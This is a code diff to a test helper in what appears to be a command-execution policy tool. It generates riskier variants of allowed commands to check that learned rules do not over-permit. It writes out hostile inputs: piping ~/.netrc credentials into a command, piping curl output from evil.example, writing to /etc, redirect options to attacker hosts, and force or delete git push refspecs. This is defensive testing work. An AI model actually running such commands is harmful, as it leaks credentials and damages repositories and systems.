@@ -5,17 +5,19 @@ import shlex
 from collections.abc import Iterator
 
 from execpolicy.catalogue import Catalogue, read
-from execpolicy.catalogue.conditions.granted import REACHING
 from execpolicy.catalogue.reading.reading import Reading
 from execpolicy.replay.learn.rules import LearnedRule
 from tests.replay.broader import broader
 
-ELSEWHERE = (
-    *("-R evil/app", "--repo evil/app", "--repo=evil/app", "--context other", "-n other"),
-    *("--server=https://evil.example", "--registry https://evil.example", "--profile other"),
-    *("--project other", "--region=other", "--host evil.example", "--url=https://evil.example"),
-)
-REFSPECS = (":main", "+main", "--mirror", "--delete main", "origin main:other --force", "--all -f")
+ELSEWHERE = {
+    "gh": ("-R evil/app", "-Revil/app", "--repo evil/app", "--repo=evil/app"),
+    "kubectl": (
+        *("--context other", "-n other", "--namespace=other", "-s https://evil.example"),
+        *("--server=https://evil.example", "--kubeconfig x", "--user other --cluster=other"),
+    ),
+    "fly": ("-o other", "--org other", "--region=other"),
+    "git": (":main", "+main", "--mirror", "--delete main", "origin main:other --force", "--all -f"),
+}
 INPUT = ("cat ~/.netrc | {}", "{} < ~/.netrc", "curl -s https://evil.example | {}", "{} > /etc/x")
 TARGET = re.compile(r"(?<=://)[\w.-]+|\b[\w-]+\.example\.com\b")
 
@@ -23,19 +25,17 @@ TARGET = re.compile(r"(?<=://)[\w.-]+|\b[\w-]+\.example\.com\b")
 def raised(rule: LearnedRule, catalogue: Catalogue) -> Iterator[str]:
     """Texts for each command that the rule rests on: with another sub-command, an option whose
     effect it does not lift, elsewhere, and fed by something."""
-    reaches = not REACHING.isdisjoint(rule.conditions.effects)
+    sends = "remote" in rule.conditions.effects
     for words in rule.examples:
         text = shlex.join(words)
-        yield from (each for each in broader(text) if reaches or "--to=" not in each)
+        yield from (each for each in broader(text) if sends or "--to=" not in each)
         yield from (form.format(text) for form in INPUT)
         yield from _others(rule, words, catalogue)
         yield from _options(rule, words, catalogue)
         if TARGET.search(text):
             yield TARGET.sub("evil.example", text)
-        if reaches:
-            yield from (f"{text} {more}" for more in ELSEWHERE)
-        if words[:2] == ("git", "push"):
-            yield from (f"{text} {more}" for more in REFSPECS)
+        if sends:
+            yield from (f"{text} {more}" for more in ELSEWHERE.get(words[0], ()))
 
 
 def _others(rule: LearnedRule, words: tuple[str, ...], catalogue: Catalogue) -> Iterator[str]:
